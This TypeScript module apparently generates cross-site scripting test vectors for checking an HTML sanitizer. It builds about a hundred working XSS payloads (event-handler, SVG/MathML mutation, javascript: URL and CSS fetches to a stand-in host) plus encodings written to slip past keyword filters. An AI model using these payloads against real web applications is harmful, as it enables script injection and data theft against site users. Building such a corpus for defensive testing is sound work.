import type { Random } from '@baton/simulator'

/** One piece of text that runs a script, or asks a server outside, wherever it is taken for more than text. */
export interface Vector {
  /** Stands in the text and in whatever the script reports. */
  id: string
  text: string
}

export const outside = 'outside.prove.example'

type Make = (id: string, random: Random) => string

/** What a script does to be noticed. */
const scripts: Make[] = [
  (id) => `__hit('${id}')`,
  (id) => `alert('${id}')`,
  (id) => `window.__hit('${id}')`,
  (id) => `(top||window).__hit('${id}')`,
  (id) => `setTimeout(function(){__hit('${id}')})`,
  (id) => `self['__h'+'it']('${id}')`,
  (id) => `__hit(\`${id}\`)`,
  (id) => `new Image().src='https://${outside}/${id}',__hit('${id}')`,
]
const js: Make = (id, random) => random.pick(scripts)(id, random)
const attribute: Make = (id, random) => js(id, random).replaceAll('"', '&quot;')

/** Places in which markup runs or fetches. */
const markup: Make[] = [
  (id, random) => `<script>${js(id, random)}</script>`,
  (id, random) => `<img src=x onerror="${attribute(id, random)}">`,
  (id, random) => `<img src="x:x" onerror="${attribute(id, random)}" alt="${id}">`,
  (id, random) => `<svg onload="${attribute(id, random)}">`,
  (id, random) => `<svg><script>${js(id, random)}</script></svg>`,
  (id, random) => `<svg><animate onbegin="${attribute(id, random)}" attributeName=x dur=1s>`,
  (id, random) => `<svg><set onbegin="${attribute(id, random)}" attributeName=y to=1>`,
  (id, random) => `<svg><a xlink:href="javascript:${attribute(id, random)}"><text x=9 y=9>${id}</text></a></svg>`,
  (id, random) => `<svg><style><img src=x onerror="${attribute(id, random)}"></style></svg>`,
  (id, random) => `<svg></p><style><a id="</style><img src=1 onerror=${attribute(id, random)}>">`,
  (id, random) => `<svg><desc><img src=x onerror="${attribute(id, random)}"></desc></svg>`,
  (id, random) =>
    `<svg><foreignObject><iframe srcdoc="&lt;script&gt;parent.${attribute(id, random)}&lt;/script&gt;"></iframe></foreignObject></svg>`,
  (id) => `<svg><image href="https://${outside}/${id}" width=9 height=9></svg>`,
  (id) =>
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='https://${outside}/${id}'/></svg>#x"></svg>`,
  (id, random) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${attribute(id, random)}&gt;">`,
  (id, random) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${attribute(id, random)}">`,
  (id, random) => `<math><annotation-xml encoding="text/html"><img src=x onerror="${attribute(id, random)}"></annotation-xml></math>`,
  (id, random) => `<math href="javascript:${attribute(id, random)}">${id}</math>`,
  (id, random) => `<noscript><p title="</noscript><img src=x onerror=${attribute(id, random)}>">`,
  (id, random) => `<template><img src=x onerror="${attribute(id, random)}"></template>`,
  (id, random) => `<iframe srcdoc="&lt;script&gt;parent.${attribute(id, random)}&lt;/script&gt;"></iframe>`,
  (id, random) => `<iframe src="javascript:parent.${attribute(id, random)}"></iframe>`,
  (id) => `<iframe src="https://${outside}/${id}"></iframe>`,
  (id, random) => `<object data="javascript:${attribute(id, random)}"></object>`,
  (id) => `<object data="https://${outside}/${id}"></object>`,
  (id) => `<embed src="https://${outside}/${id}">`,
  (id, random) => `<a href="javascript:${attribute(id, random)}" autofocus onfocus="${attribute(id, random)}">${id}</a>`,
  (id, random) => `<a href="data:text/html,<script>${attribute(id, random)}</script>">${id}</a>`,
  (id) => `<base href="https://${outside}/${id}/"><img src="${id}.png">`,
  (id) => `<link rel=stylesheet href="https://${outside}/${id}.css">`,
  (id) => `<link rel=prefetch href="https://${outside}/${id}"><link rel=preload as=image href="https://${outside}/${id}.png">`,
  (id) => `<style>@import url("https://${outside}/${id}.css");</style>`,
  (id) => `<style>*{background:url(https://${outside}/${id})}</style>`,
  (id) => `<div style="background:url(https://${outside}/${id})">${id}</div>`,
  (id) => `<div style="background-image:\\75rl(//${outside}/${id})">${id}</div>`,
  (id) => `<div style="list-style:url('//${outside}/${id}');content:image-set('//${outside}/${id}')">${id}</div>`,
  (id, random) => `<style></style><img src=x onerror="${attribute(id, random)}"></style>`,
  (id, random) => `<div style="width:expression(${attribute(id, random)})">${id}</div>`,
  (id) => `<meta http-equiv=refresh content="0;url=https://${outside}/${id}">`,
  (id, random) => `<meta http-equiv=refresh content="0;url=javascript:${attribute(id, random)}">`,
  (id, random) => `<body onload="${attribute(id, random)}" onpageshow="${attribute(id, random)}">`,
  (id, random) => `<details open ontoggle="${attribute(id, random)}">${id}</details>`,
  (id, random) => `<video><source src=x onerror="${attribute(id, random)}"></video>`,
  (id, random) => `<audio src=x onerror="${attribute(id, random)}">`,
  (id) => `<video poster="https://${outside}/${id}" src="https://${outside}/${id}.mp4" autoplay></video>`,
  (id, random) => `<input autofocus onfocus="${attribute(id, random)}">`,
  (id, random) => `<select autofocus onfocus="${attribute(id, random)}"></select>`,
  (id, random) => `<div contenteditable autofocus tabindex=0 onfocus="${attribute(id, random)}">${id}</div>`,
  (id, random) => `<marquee onstart="${attribute(id, random)}">${id}</marquee>`,
  (id, random) =>
    `<form action="javascript:${attribute(id, random)}"><button formaction="javascript:${attribute(id, random)}">${id}</button></form>`,
  (id) => `<form action="https://${outside}/${id}"><input name=a value=b></form>`,
  (id, random) => `<div style="animation:x" onanimationstart="${attribute(id, random)}"><style>@keyframes x{}</style></div>`,
  (id) => `<img srcset="https://${outside}/${id} 1x">`,
  (id) => `<img src="//${outside}/${id}"><img src="\\\\${outside}\\${id}"><img src="/\\${outside}/${id}">`,
  (id) => `<picture><source srcset="https://${outside}/${id}"><img alt="${id}"></picture>`,
  (id) => `<table background="https://${outside}/${id}"><tr><td background="https://${outside}/${id}">${id}</td></tr></table>`,
  (id) =>
    `<img src=data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="__hit('${id}')"/>`).toString('base64')}>`,
  (id, random) => `<xmp><p title="</xmp><img src=x onerror=${attribute(id, random)}>">`,
  (id, random) => `<textarea><p title="</textarea><img src=x onerror=${attribute(id, random)}>"></textarea>`,
  (id, random) => `<title><a title="</title><img src=x onerror=${attribute(id, random)}>"></title>`,
  (id, random) => `<!--><img src=x onerror="${attribute(id, random)}">-->`,
  (id, random) => `<!-- --!><img src=x onerror="${attribute(id, random)}"> -->`,
  (id, random) => `<![CDATA[><img src=x onerror="${attribute(id, random)}">]]>`,
  (id, random) =>
    `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${js(id, random)}</x:script><img src=x onerror="${attribute(id, random)}">`,
  (id, random) => `<a title="<img src=x onerror=${js(id, random).replaceAll('"', "'")}>" href=#>${id}</a>`,
  (id, random) => `<p id="a" title='"><img src=x onerror="${attribute(id, random)}">'>${id}`,
  (id, random) => `<div data-blocked-src="https://${outside}/${id}" data-cid="x" onclick="${attribute(id, random)}">${id}</div>`,
  (id) => `<img data-blocked-src="https://${outside}/${id}" alt="a data-blocked-src=https://${outside}/${id}">`,
]

/** Texts that mean nothing as markup of their own and all as part of something else. */
const fragments: Make[] = [
  (id, random) => `"><img src=x onerror="${attribute(id, random)}">`,
  (id, random) => `'><svg onload='${attribute(id, random).replaceAll("'", '&#39;')}'>`,
  (id, random) => `" autofocus onfocus="${attribute(id, random)}" x="`,
  (id, random) => `' onmouseover='${attribute(id, random).replaceAll("'", '&#39;')}' x='`,
  (id, random) => `</script><script>${js(id, random)}</script>`,
  (id, random) => `</title></style></textarea></noscript></template><img src=x onerror="${attribute(id, random)}">`,
  (id, random) => `";${js(id, random)};//`,
  (id, random) => `'-${js(id, random)}-'`,
  (id, random) => `\${${js(id, random)}}`,
  (id, random) => `{{constructor.constructor("${js(id, random)}")()}}`,
  (id, random) => `{"__proto__":{"innerHTML":"<img src=x onerror=${js(id, random)}>"},"dangerouslySetInnerHTML":{"__html":"${id}"}}`,
  (id, random) => `[${id}](javascript:${js(id, random)}) ![${id}](https://${outside}/${id})`,
  (id, random) => `javascript:${js(id, random)}`,
  (id, random) => `javascript://example.org/%0a${js(id, random)}`,
  (id, random) => `data:text/html,<script>${js(id, random)}</script>`,
  (id) => `data:text/html;base64,${Buffer.from(`<script>__hit('${id}')</script>`).toString('base64')} ${id}`,
  (id, random) => `https://example.org/"onmouseover="${js(id, random)}`,
  (id, random) => `https://example.org/<svg/onload=${js(id, random)}>`,
  (id, random) => `https://example.org/#'><img src=x onerror=${js(id, random)}>`,
  (id) => `//${outside}/${id} \\\\${outside}\\${id} https:${outside}/${id}`,
  (id) => `../../../../${id}/%2e%2e%2f<b>?q=#${id}`,
  (id, random) => `mailto:a@b.example?subject=<img src=x onerror=${js(id, random)}>`,
  (id, random) => `\u202e<img src=x onerror="${attribute(id, random)}">\u202c`,
  (id, random) => `＜img src=x onerror=${js(id, random)}＞ ﹤script﹥${js(id, random)}﹤/script﹥`,
  (id, random) => `\u2028<script>${js(id, random)}</script>\u2029`,
  (id, random) => `\\u003cimg src=x onerror=${js(id, random)}\\u003e \\x3cscript\\x3e${js(id, random)}`,
  (id, random) => `%3Cimg%20src%3Dx%20onerror%3D${encodeURIComponent(js(id, random))}%3E`,
  (id, random) => `&lt;img src=x onerror=&quot;${attribute(id, random)}&quot;&gt;`,
  (id, random) => `&#60;script&#62;${js(id, random)}&#60;/script&#62;`,
  (id, random) => `+ADw-script+AD4-${js(id, random)}+ADw-/script+AD4-`,
  (id, random) => `<ｓcript>${js(id, random)}</ｓcript>ſ<ſcript>${js(id, random)}</ſcript>`,
]

type Disguise = (text: string, random: Random) => string

/** Ways to write the same so that a filter that looks for words misses it. */
const disguises: Disguise[] = [
  (text) => text,
  (text) => text,
  (text, random) =>
    text.replaceAll(/<\/?[a-z]+|\bon[a-z]+(?==)|javascript:/gi, (word) =>
      Array.from(word, (letter) => (random.chance(0.5) ? letter.toUpperCase() : letter)).join(''),
    ),
  (text, random) => text.replaceAll(/ (?=on|src|href)/g, () => random.pick(['/', '\t', '\n', '\f', ' / ', '\r\n'])),
  (text) => text.replaceAll('javascript:', 'java\tscript\n:'),
  (text) => text.replaceAll('javascript:', '&#x6a;avascript&colon;'),
  (text) => text.replaceAll('javascript:', '\u0001 javascript:'),
  (text) => text.replaceAll('<script', '<scr<script>ipt').replaceAll('</script', '</scr</script>ipt'),
  (text) => text.replace(/>([^>]*)$/, '$1'),
  (text) => `</div></p></td></table></a></b>${text}`,
  (text) => `<b><i><a href="https://example.org/">${text}`,
  (text, random) => `${random.pick(['สวัสดีค่ะ ', '안녕하세요 ', '😀\u200d', 'é́́ ', '\ufeff', '\u200b'])}${text}`,
  (text, random) => text.replaceAll('=', () => random.pick(['=', ' = ', '=\n'])),
]

/** Made by chance from places, scripts and disguises; every place comes as often as any other. */
export function makeVectors(random: Random, count: number): Vector[] {
  const places = [...markup, ...fragments]
  return Array.from({ length: count }, (_, n) => {
    const id = `hv${n}z`
    const make = places[n % places.length] as Make
    return { id, text: random.pick(disguises)(make(id, random), random) }
  })
}
